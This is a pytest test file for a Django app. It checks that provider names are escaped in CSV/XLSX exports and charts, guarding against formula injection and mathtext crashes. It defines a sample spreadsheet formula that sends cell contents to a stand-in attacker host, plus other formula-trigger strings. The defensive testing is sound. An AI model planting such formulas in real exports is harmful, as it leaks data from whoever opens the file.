"""Requirement (issue 14.7): hostile names never hurt whoever opens an export or a chart.

- Formula injection: a provider named `=HYPERLINK(...)` lands in every CSV and XLSX export as
  text (a leading apostrophe, the OWASP advice; in XLSX also typed as a string), never as a live
  formula. All exports write their cells through maatpak.core.spreadsheet.
- Chart labels: a provider named `Bureau $\\frac{$` (matplotlib mathtext) does not crash the
  monitoring or effectiveness charts; it is shown as the plain text it is.
- The charts render under the Content-Security-Policy (no inline styles): they are <img> with a
  data: URL and an alt text, not inline SVG with style attributes.
"""

import base64
import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from maatpak.core.spreadsheet import csv_writer, safe_cell, xlsx_append
from maatpak.demo.generator import generate_demo
from maatpak.providers.models import Provider

HYPERLINK = '=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik hier")'
MATHTEXT = r"Bureau $\frac{$"


@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Werkfit", "", " =1", "a=b", 3, -3, 2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_writer_escapes_every_cell_and_keeps_numbers():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["Aanbieder", "Geplaatst"])
    writer.writerows([[HYPERLINK, -2], ["Werkfit", 3]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["Aanbieder", "Geplaatst"], ["'" + HYPERLINK, "-2"], ["Werkfit", "3"]]


def test_xlsx_cells_are_strings_never_formulas():
    book = Workbook()
    xlsx_append(book.active, [HYPERLINK, "@cmd", "Bureau\x07 met bel", "#N/A", 7, None])
    saved = io.BytesIO()
    book.save(saved)
    row = next(load_workbook(io.BytesIO(saved.getvalue())).active.iter_rows())
    assert [cell.value for cell in row[:5]] == ["'" + HYPERLINK, "'@cmd", "Bureau met bel", "#N/A", 7]
    assert [cell.data_type for cell in row[:5]] == ["s", "s", "s", "s", "n"]


# --- the real exports and charts, with hostile provider names ---------------------------------


@pytest.fixture
def demo(db):
    generate_demo(participants=150, seed=4, log=lambda *a: None)
    from maatpak.accounts.models import User

    return User.objects.get(username="beleidsmedewerker"), User.objects.get(username="analist")


def _rename_providers(*names):
    """Give the providers with the most referrals the hostile names (they surely show up)."""
    from django.db.models import Count

    providers = Provider.objects.annotate(n=Count("referrals")).order_by("-n", "pk")[: len(names)]
    for provider, name in zip(providers, names, strict=True):
        Provider.objects.filter(pk=provider.pk).update(name=name)


def test_monitoring_exports_write_a_hostile_name_as_text(client, demo):
    _rename_providers(HYPERLINK)
    client.force_login(demo[0])
    content = client.get(reverse("insights:monitoring_export", args=["csv"])).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    book = load_workbook(io.BytesIO(client.get(reverse("insights:monitoring_export", args=["xlsx"])).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert "'" + HYPERLINK in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_effectiveness_csv_writes_a_hostile_name_as_text(client, demo):
    _rename_providers(HYPERLINK)
    client.force_login(demo[1])
    response = client.get(reverse("insights:export", args=["cost_benefit"]), {"group": "provider"})
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode()), delimiter=";") for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells


def _chart_svgs(page: str) -> list[str]:
    return [
        base64.b64decode(data).decode()
        for data in re.findall(r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)" alt="[^"]+">', page)
    ]


def test_charts_show_a_mathtext_name_as_plain_text_and_need_no_inline_style(client, demo):
    _rename_providers(MATHTEXT, "_Onderstreept")
    client.force_login(demo[0])
    page = client.get(reverse("insights:monitoring")).content.decode()
    svgs = _chart_svgs(page)
    assert len(svgs) == 2
    assert all(f"<!-- {MATHTEXT} (N=" in svg for svg in svgs)
    client.force_login(demo[1])
    page = client.get(reverse("insights:effectiveness"), {"curves": "provider"}).content.decode()
    (svg,) = _chart_svgs(page)
    assert f"<!-- {MATHTEXT} (N=" in svg and "<!-- _Onderstreept (N=" in svg  # a legend label starting with _ is kept
    # Nothing the policy (style-src 'self') would block: no inline SVG with style attributes.
    for html in (page, client.get(reverse("insights:monitoring")).content.decode()):
        assert "<svg" not in html and "<style" not in html and " style=" not in html
